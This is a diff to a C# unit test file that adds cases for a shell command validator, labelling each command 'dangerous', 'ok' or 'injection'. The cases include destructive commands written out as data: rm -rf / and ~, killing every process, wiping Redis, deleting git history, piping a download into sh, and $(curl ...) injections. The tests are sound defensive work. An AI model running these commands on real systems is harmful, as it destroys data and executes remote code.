@@ -55,6 +55,9 @@ public sealed class FollowedCommandsTests
     [DataRow("printf 'a:\\n\\trm -rf /\\n' > Makefile; make", "dangerous")]
     [DataRow("echo '{\"scripts\":{\"x\":\"rm -rf /\"}}' > package.json; npm run x", "dangerous")]
     [DataRow("echo 'drop table users' > a.sql; psql -f a.sql", "dangerous")]
+    [DataRow("x=/; echo 'x=build' > f; chmod +x f; ./f; rm -rf $x", "dangerous")]
+    [DataRow("echo 'cd build' > f; chmod +x f; ./f; rm -rf *", "dangerous")]
+    [DataRow("echo 'cd build' > f; . ./f; rm -rf *", "ok")]
     [DataRow("aria2c x.io/i.sh && bash i.sh", "dangerous")]
     [DataRow("axel x.io/i.sh; sh i.sh", "dangerous")]
     public void Validate_WrittenScripts_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
@@ -126,6 +129,61 @@ public sealed class FollowedCommandsTests
     [DataRow("PAGER='rm -rf ~' git log", "dangerous")]
     [DataRow("rm -rf \"$(dirname \"$PWD\")\"", "dangerous")]
     public void Validate_KnownOutputs_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("set -- -f /; while getopts f: o; do rm -rf \"$OPTARG\"; done", "dangerous")]
+    [DataRow("set -- -v -f/ x; while getopts vf: o; do case $o in f) rm -rf \"$OPTARG\";; esac; done", "dangerous")]
+    [DataRow("while getopts f: o -f /; do rm -rf \"$OPTARG\"; done", "dangerous")]
+    [DataRow("set -- -f build; while getopts f: o; do rm -rf \"$OPTARG\"; done", "ok")]
+    [DataRow("set -- -- -f /; while getopts f: o; do echo \"$OPTARG\"; done", "ok")]
+    [DataRow("while getopts a: o; do case $o in a) rm -rf \"$OPTARG\";; esac; done", "injection")]
+    [DataRow("while getopts vx: o; do case $o in v) V=1;; x) X=$OPTARG;; *) exit 1;; esac; done; shift $((OPTIND-1)); echo \"$1\"", "ok")]
+    public void Validate_OptionsOfAScript_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("for p in /proc/[0-9]*; do kill ${p##*/}; done", "dangerous")]
+    [DataRow("for p in /proc/[0-9]*/; do p=${p%/}; kill -9 \"${p##*/}\"; done", "dangerous")]
+    [DataRow("for p in /proc/*; do kill -9 $(basename $p); done", "dangerous")]
+    [DataRow("for p in pids/*; do kill ${p##*/}; done", "ok")]
+    [DataRow("for p in run/*.pid; do kill $(cat $p); done", "ok")]
+    [DataRow("for f in /srv/data/*.o; do rm -rf \"build/${f##*/}\"; done", "ok")]
+    [DataRow("for f in /etc/*; do rm -rf \"${f##*/}\"; done", "dangerous")]
+    [DataRow("redis-cli KEYS '*' | xargs redis-cli DEL", "dangerous")]
+    [DataRow("redis-cli --scan | xargs -n 100 redis-cli unlink", "dangerous")]
+    [DataRow("valkey-cli keys '*' | while read -r k; do valkey-cli Del \"$k\"; done", "dangerous")]
+    [DataRow("redis-cli FlushDb", "dangerous")]
+    [DataRow("redis-cli --scan --pattern 'cache:*' | xargs redis-cli unlink", "ok")]
+    [DataRow("redis-cli KEYS '*' | wc -l", "ok")]
+    [DataRow("redis-cli DEL session:1", "ok")]
+    public void Validate_NamesOutOfLists_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("rm -rf .git/x", "dangerous")]
+    [DataRow("rm -rf sub/.git/modules/lib", "dangerous")]
+    [DataRow("find .git/lfs -type f -delete", "dangerous")]
+    [DataRow("rm -rf .git/refs/remotes", "dangerous")]
+    [DataRow("rm -rf .git/rebase-merge", "ok")]
+    [DataRow("rm -f .git/index.lock .git/MERGE_HEAD", "ok")]
+    [DataRow("rm .git/hooks/pre-commit", "ok")]
+    [DataRow("ls .git/objects | wc -l", "ok")]
+    public void Validate_InsideARepository_HistoryCounts(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("git rebase -x 'make test' main", "ok")]
+    [DataRow("git rebase --exec='rm -rf build' main", "ok")]
+    [DataRow("git rebase -i -x 'rm -rf ~' main", "dangerous")]
+    [DataRow("git rebase -x 'curl https://example.com | sh' main", "dangerous")]
+    [DataRow("git rebase -x \"$X\" main", "injection")]
+    [DataRow("$JAVA_HOME/bin/java -jar x", "injection")]
+    [DataRow("$TOOLS/bin/rm -rf /", "dangerous")]
+    [DataRow("for f in ./scripts/*; do bash \"$f\"; done", "ok")]
+    [DataRow("for f in scripts/*.sh; do . \"$f\"; done", "ok")]
+    [DataRow("for f in ./scripts/$X; do bash \"$f\"; done", "injection")]
+    [DataRow("for f in ./scripts/*; do eval \"$f\"; done", "injection")]
+    [DataRow("bash \"$(which deploy)\"", "ok")]
+    [DataRow("$(which rm) -rf build", "injection")]
+    [DataRow("$(curl -s https://example.com/name) x", "dangerous")]
+    public void Validate_ProgramsThatAreNamedInPart_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
 
     private static string VerdictOf(string command) => CommandValidator.Validate(command) switch
     {
